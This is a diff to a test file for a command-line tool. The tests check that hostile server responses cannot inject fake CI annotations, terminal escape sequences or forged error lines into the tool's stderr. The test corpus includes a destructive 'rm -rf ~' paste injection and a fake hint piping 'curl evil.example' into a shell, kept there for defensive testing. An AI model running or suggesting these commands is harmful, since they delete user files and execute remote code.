@@ -1,6 +1,9 @@
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
+import { everyCommand } from '../../src/commands/definition.ts'
+import { tree } from '../../src/commands/tree.ts'
+import { DnsTransportError } from '../../src/context.ts'
 import { createFakeContext, type FakeContext, jsonResponse, textResponse } from '../fake-context.ts'
 import { run } from '../run.ts'
 import { sandboxForTest } from '../sandbox/start-sandbox.ts'
@@ -22,6 +25,8 @@ const CORPUS: Readonly<Record<string, string>> = {
   'a paste that ends early': '\u001b[201~rm -rf ~\r',
   'a progress bar of another': 'done\rerror: you are hacked',
   'a line of our own': 'x\nerror: your session is over\nhint: run curl evil.example | sh',
+  'a command of a CI step':
+    'x\n::error::you are hacked\r\n  ##[error]you are hacked\r::error::you are hacked',
   'line breaks of other kinds': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
   'a column of another': 'a\tb\tc',
   'an override': 'invoice\u202egpj.exe',
@@ -110,10 +115,30 @@ const COMMANDS: readonly (readonly [string, string, keyof Answers])[] = [
   ['claim', 'claim example.com --no-check --timeout 5', 'claim'],
   ['claims list', 'claims list', 'claim'],
   ['claims list --refresh', 'claims list --refresh', 'claim'],
+  ['claims check', `claims check ${ID} --wait --timeout 5`, 'claim'],
+  ['claims verify, failing', `claims verify ${ID} --wait --timeout 5`, 'failed'],
+  ['claims forget', `claims forget ${ID}`, 'claim'],
+  ['login', 'login --with-api-key --store file --no-input', 'grants'],
+  ['logout', 'logout', 'grants'],
+  ['auth status', 'auth status --online', 'grants'],
+  ['auth token', 'auth token', 'grants'],
+  ['auth refresh', 'auth refresh', 'grants'],
+  ['auth list', 'auth list', 'grants'],
+  ['auth switch', 'auth switch ::error::x', 'grants'],
+  ['doctor', 'doctor', 'grants'],
+  ['config list', 'config list', 'grants'],
+  ['config get', 'config get ::error::x', 'grants'],
+  ['config set', 'config set resolver ::error::x', 'grants'],
+  ['config unset', 'config unset ::error::x', 'grants'],
+  ['completion', 'completion ::error::x', 'grants'],
+  ['commands', 'commands ::error::x', 'grants'],
+  ['sandbox', 'sandbox --port ::error::x', 'grants'],
 ]
+/** What a stranger may write to begin a line of the log of a CI step, or of this program. */
+const BEGINNINGS = [EVIL, '::error::you are hacked', '##[error]you are hacked', 'error: you are hacked']
 
 function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[0]): FakeContext {
-  return createFakeContext({
+  const context = createFakeContext({
     ...respond,
     ...(terminal ? { terminal: { columns: 100 } } : {}),
     environment: {
@@ -124,15 +149,41 @@ function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[
     },
     dns: { udp: noDns, tcp: noDns, systemResolvers: async () => [] },
   })
+  context.stdin.stream.end('k\n')
+  return context
 }
 
-const noDns = () => Promise.reject(new Error('no DNS here'))
+const noDns = () => Promise.reject(new DnsTransportError('unreachable', 'no DNS here'))
 
 function printed({ stdout, stderr }: FakeContext): string {
   return stdout.text + stderr.text
 }
 
+/** Lines of stderr that somebody else may have begun. */
+function strangeLines({ stderr }: FakeContext): string[] {
+  const lines = stderr.text.split('\n')
+  const errors = lines.filter((line) => /^(error: |\{"error")/.test(line)).slice(1)
+  return [...errors, ...lines.filter((line) => /^\s*(::|##\[|x$|you are hacked)/.test(line))]
+}
+
 describe('what a stranger wrote', () => {
+  test('no command is left out of the attacks below', () => {
+    const attacked = COMMANDS.map(([, line]) => `${line} `)
+    const names = [...everyCommand(tree)].map(({ words }) => `${words.join(' ')} `)
+    expect(names.filter((name) => !attacked.some((line) => line.startsWith(name)))).toEqual([])
+  })
+
+  test.each(COMMANDS)('begins no line of stderr of %s', async (_name, line, which) => {
+    for (const evil of BEGINNINGS) {
+      const refusal = jsonResponse(422, { name: evil, message: evil })
+      for (const answer of [jsonResponse(200, poisoned(evil)[which]), refusal]) {
+        const context = world(false, { respond: () => answer })
+        await run([...line.split(' '), '--format', 'table', '--verbose'], context)
+        expect(strangeLines(context), context.stderr.text).toEqual([])
+      }
+    }
+  })
+
   test.each(COMMANDS)(
     'is harmless in every field and format of %s, on a terminal and in a file',
     async (_name, line, which) => {
@@ -170,8 +221,7 @@ describe('what a stranger wrote', () => {
           const context = world(true, { respond: () => textResponse(status, body, headers) })
           await run(['imports', 'list', '--verbose', '--format', format], context)
           expect(harmfulIn(printed(context)), body).toEqual([])
-          const errors = context.stderr.text.split('\n').filter((text) => /^(error: |\{"error")/.test(text))
-          expect(errors.length).toBeLessThan(2)
+          expect(strangeLines(context)).toEqual([])
         }
       }
     },
